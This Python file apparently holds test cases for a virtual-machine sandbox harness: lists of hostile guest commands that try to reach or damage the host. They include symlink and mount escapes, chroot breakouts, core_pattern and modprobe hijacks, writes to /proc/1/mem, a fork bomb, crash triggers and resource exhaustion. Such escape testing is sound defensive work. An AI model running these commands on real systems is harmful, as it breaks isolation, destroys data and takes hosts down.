"""Lines of a study whose author wants to reach the host: what no machine may let through.

VICTIM is a file of the user's and HOME the folder that it is in, both by their paths on the
host; R is the folder of the guest's from which a run's results are taken.
"""

from __future__ import annotations

PLACES = (
    "ln -s VICTIM /run/longfat/run/manifest.json; chmod 300 /run/longfat/run",
    "mkdir -m 300 /run/longfat/run/series; ln -s VICTIM /run/longfat/run/series/rate.parquet",
    "ln -s VICTIM $R/manifest.json; ln -s VICTIM $R/outcome.json; chmod 300 $R",
    "mkdir -m 300 $R/series; ln -s VICTIM $R/series/rate.parquet",
    "rm -rf $R/raw; mkdir -p HOME; ln -s HOME $R/raw",
    "rm -rf $R/raw; ln -s / $R/raw",
    "ln -sf VICTIM $R/raw/rtt.txt; ln -sf VICTIM $R/raw/rate.samples",
    "mkdir -m 300 $R/other; ln -s VICTIM $R/other/way; chmod 000 $R/raw",
    "ln -s VICTIM /run/longfat/job/job.json; ln -s VICTIM /tmp/longfat/run",
    'cd $R; python3 -c \'import os; [(os.mkdir("d"), os.chdir("d")) for n in range(1300)]\'',
    "rm -f $R/raw/rtt.txt; mkfifo $R/raw/rtt.txt",
    "rm -f $R/raw/rtt.txt; mknod $R/raw/rtt.txt c 1 5",
    "rm -f $R/raw/rate.samples; mkdir -p $R/raw/rate.samples/../../x",
    "for n in $(seq 60); do : > $R/raw/$(printf %0200d $n); done; ls $R/raw | wc -l",
    r"""touch "$R/raw/$(printf '\033]52;c;QUJD\007\n../../x')" """,
    "truncate -s 1P $R/raw/rtt.txt; truncate -s 8E $R/raw/rate.samples",
    "(for n in $(seq 20); do : > $R/raw/rtt.txt; rm -f $R/raw/x; sleep 0.001; done) &",
    "mount -t tmpfs none $R/raw; mount -t tmpfs none $R",
    "umount -l $R; umount -l /run; rm -rf /run/longfat/guest",
    "head -c 64M /dev/zero > $R/raw/rtt.txt; ln $R/raw/rtt.txt $R/raw/more",
)
"""At the places that results are taken from."""

FILE_SYSTEMS = (
    "mount -t hostfs none /mnt -o HOME; echo x > /mnt/victim; ln -s x /mnt/link; mkdir /mnt/dir",
    "mount -t hostfs none /mnt -o /; echo x > /mntVICTIM; rm -f /mntVICTIM",
    "mount -t hostfs none /mnt -o /..; echo x > /mntVICTIM;"
    " mount -t hostfs none /mnt -o /../..HOME; echo x > /mnt/victim",
    "mount -t hostfs none /mnt -o /tmp; ln -s HOME /mnt/l; mount -t hostfs none /media -o /tmp/l;"
    " echo x > /media/victim",
    "mount -t hostfs none /mnt -o /; ln /mntVICTIM /mnt/dev/shm/x; echo x >> /mnt/dev/shm/x",
    "mount -t hostfs none /mnt -o /; mv /mntVICTIM /mntVICTIM.moved; chmod 000 /mntVICTIM",
    "mount -t hostfs none /mnt -o /usr; mv /mnt/bin /mnt/bin2; rm -rf /mnt/share/doc; : > /mnt/x",
    "mount -t hostfs none /mnt -o /tmp/longfat; echo x > /mnt/guest/x; rm -rf /mnt/*",
    "mount -t hostfs none $R -o HOME; echo x > $R/victim",
    "mount -t hostfs none $R/raw -o HOME; echo x > $R/raw/victim; : > $R/raw/rtt.txt",
    "mount -o remount,rw /; echo x > VICTIM; mkdir -p HOME && echo x > VICTIM",
    "mount -o remount,rw /run/longfat; echo x > /run/longfat/guest/longfat/guest/agent.py",
    "mount -t overlay o /mnt -o lowerdir=/,upperdir=/run,workdir=/run/w; echo x > /mntVICTIM",
    "mount --bind /run/longfat /mnt; mount -o remount,bind,rw /mnt; rm -rf /mnt/guest; : > /mnt/x",
    "unshare -m sh -c 'mount -t hostfs none / -o /; chroot / sh -c \"echo x > VICTIM\"'",
    "unshare -Urm sh -c 'mount -t hostfs none /mnt -o HOME; echo x > /mnt/victim'",
    "nsenter -t 1 -m -- sh -c 'echo x > VICTIM'; nsenter -t 1 -a -- sh -c 'echo x > VICTIM'",
    "mknod /run/u b 98 0; echo x > /run/u; dd if=/dev/zero of=/run/u count=1; mount /run/u /mnt",
    "mount -t hostfs none /mnt -o /dev/shm; for f in /mnt/* /mnt/.[!.]*; do echo x > $f; done",
    "mount -t proc none /mnt; r=root; for p in /mnt/[0-9]*; do echo x > $p/$r/VICTIM; done",
    "mount -t hostfs none /mnt -o /proc; r=root;"
    " echo x > /mnt/self/$r/VICTIM; echo x > /mnt/1/rootVICTIM",
    "mount -t hostfs none /mnt -o /sys;"
    " echo 1 > /mnt/kernel/mm/ksm/run; echo mem > /mnt/power/state",
    'cd /; mkdir /run/c; chroot /run/c true; python3 -c \'import os; os.chroot("/run/c");'
    ' [os.chdir("..") for n in range(99)]; os.chroot("."); open("VICTIM", "w")\'',
)
"""By mounts, and by paths that lead out."""

FIRST_PROCESS = (
    "head -c 100 /dev/zero > /dev/host_line; echo x > /proc/1/fd/3",
    "head -c 1000000 /dev/urandom > /dev/host_line",
    "for f in /proc/1/fd/*; do head -c 100000 /dev/urandom > $f & done; sleep 0.1",
    "echo x > /proc/1/rootVICTIM; echo x > /proc/1/cwd/VICTIM; ls /proc/1/map_files",
    "prlimit --pid 1 --fsize=0; prlimit --pid 1 --nofile=0",
    "prlimit --pid 1 --as=1000000 --nproc=1",
    "kill -STOP 1; kill -9 1; kill -TERM 1; kill -9 -1",
    "python3 -c 'import ctypes; c = ctypes.CDLL(None); print(c.ptrace(16, 1, 0, 0))'",
    'python3 -c \'f = open("/proc/1/mem", "r+b"); f.seek(0x400000); f.write(bytes(9999))\'',
    "python3 -c 'import ctypes; c = ctypes.CDLL(None); p = c.syscall(434, 1, 0);"
    " f = [c.syscall(438, p, n, 0) for n in range(64)];"
    " [c.write(n, bytes(range(256)), 256) for n in f]'",
    "echo '|/bin/sh -c \"echo x > VICTIM\"' > /proc/sys/kernel/core_pattern; ulimit -c unlimited;"
    " sh -c 'kill -SEGV $$'",
    "printf '#!/bin/sh\\necho x > VICTIM\\n' > /run/m; chmod 755 /run/m;"
    " echo /run/m > /proc/sys/kernel/modprobe; modprobe x; ip link add a type none;"
    " mount -t x a /mnt",
    "for f in /run/longfat/job/*; do echo x > $f; done; rm -rf /run/longfat/job",
)
"""By the machine's first process, which has the channel to the host, and by its kernel."""

RESOURCES = (
    "head -c 3G /dev/zero > $R/raw/x; head -c 3G /dev/zero > /dev/shm/x",
    "tail /dev/zero",
    "f() { f | f & }; f; sleep 0.1",
    "for n in $(seq 50); do sleep 1000 & done",
    "python3 -c 'import os; p = [os.pipe() for n in range(400)];"
    ' [os.write(w, bytes(60000)) for _, w in p]; e = [os.open("/", 0) for n in range(200)]\'',
    "for n in $(seq 30); do mkdir -p /run/m/$n; mount -t tmpfs none /run/m/$n; done",
    r"yes $(printf '\033]52;c;QUJD\007') | head -c 2M > /dev/console;"
    r" dmesg -n 8; printf '<0>\033[2J\n' > /dev/kmsg",
    "cat /dev/random | head -c 2M | tee /dev/console > /dev/kmsg",
    "for n in $(seq 30); do ip link add a$n type dummy; done;"
    " ip link add v type vxlan id 1 dstport 1",
    "date -s '2100-01-01'; date -s '1970-01-02'; hwclock -w",
    "echo 3 > /proc/sys/vm/drop_caches; echo c > /proc/sysrq-trigger",
    "echo o > /proc/sysrq-trigger; echo b > /proc/sysrq-trigger",
    "poweroff -f; reboot -f; halt -f",
    "python3 -c 'import ctypes; ctypes.CDLL(None).reboot(0x4321fedc)'",
    "mknod /run/mem c 1 1; dd if=/dev/zero of=/run/mem bs=1M count=4; cat /proc/kcore | head -c 9M",
)
"""By what a machine may use, and by its end."""

TRAPS = (*PLACES, *FILE_SYSTEMS, *FIRST_PROCESS, *RESOURCES)
